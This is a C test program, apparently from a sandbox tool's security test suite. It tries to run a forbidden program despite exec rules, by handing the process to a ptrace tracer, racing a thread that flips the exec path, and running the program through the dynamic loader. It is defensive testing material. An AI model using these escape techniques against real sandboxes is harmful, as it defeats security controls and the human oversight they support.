/* Escape attempt: run a program no exec rule allows from a process guardian has handed over
 * to a tracer of the session (PTRACE_TRACEME: guardian stops tracing it, so no
 * PTRACE_EVENT_EXEC check of what the kernel loaded). The Landlock envelope makes the
 * writable directory executable (the fixture allows exec of ws/allowed-* only), so a thread
 * flipping the exec path between ws/allowed-true and ws/evil (a copy of touch) wins. Then
 * the dynamic loader run as a program (when a profile allows it): its first open is the
 * program, decided as an exec only when guardian saw the exec. If the forbidden program
 * ever runs, it creates T/ws/ran-forbidden-handover. */
#include "attack.h"
#include <pthread.h>
#include <signal.h>
#include <sys/ptrace.h>
#include <sys/wait.h>

static char path[4096], OKP[2300], EVIL[2300], MARK[2400];
static volatile int stop;

static void* flipper(void* arg) {
  (void)arg;
  size_t a = strlen(OKP) + 1, b = strlen(EVIL) + 1;
  while (!stop) {
    memcpy(path, EVIL, b);
    __asm__ volatile("" ::: "memory");
    memcpy(path, OKP, a);
    __asm__ volatile("" ::: "memory");
  }
  return NULL;
}

static void copy(const char* from, const char* to) {
  int in = open(from, O_RDONLY), out = open(to, O_WRONLY | O_CREAT | O_TRUNC, 0755);
  char buf[65536];
  ssize_t n;
  while (in >= 0 && out >= 0 && (n = read(in, buf, sizeof buf)) > 0)
    if (write(out, buf, (size_t)n) != n) break;
  close(in);
  close(out);
}

/* A child that asks its parent to trace it (guardian hands it over, or refuses), then runs
 * `how`: 0 the exec race, 1 the loader. The parent lets it go. */
static void attempt(int how) {
  pid_t c = fork();
  if (c == 0) {
    if (ptrace(PTRACE_TRACEME, 0, 0, 0) == 0) raise(SIGSTOP);  /* refused: stays guardian's */
    char* av[] = {"x", MARK, NULL};
    if (how == 1) {
      char* lv[] = {"/lib64/ld-linux-x86-64.so.2", EVIL, MARK, NULL};
      execv(lv[0], lv);
      _exit(1);
    }
    memcpy(path, OKP, strlen(OKP) + 1);
    pthread_t th;
    pthread_create(&th, NULL, flipper, NULL);
    for (volatile int i = 0; i < 2000; i++) {}
    execv(path, av);
    _exit(1);
  }
  int st;
  if (waitpid(c, &st, 0) != c) return;
  if (WIFSTOPPED(st)) {  /* our tracee: let it go */
    ptrace(PTRACE_DETACH, c, 0, 0);
    waitpid(c, &st, 0);
  }
}

int main(int argc, char** argv) {
  fixture(argc, argv);
  snprintf(OKP, sizeof OKP, "%s/allowed-true", WS);
  snprintf(EVIL, sizeof EVIL, "%s/evil", WS);
  snprintf(MARK, sizeof MARK, "%s/ran-forbidden-handover", WS);
  copy("/usr/bin/true", OKP);
  copy("/usr/bin/touch", EVIL);
  long runs = 0;
  for (double end = now() + 3; now() < end && access(MARK, F_OK) != 0; ++runs) attempt(0);
  attempt(1);
  int ran = access(MARK, F_OK) == 0;
  fprintf(stderr, "exec_handover: %ld attempts, %s\n", runs, ran ? "FORBIDDEN RAN" : "never ran");
  return ran;
}
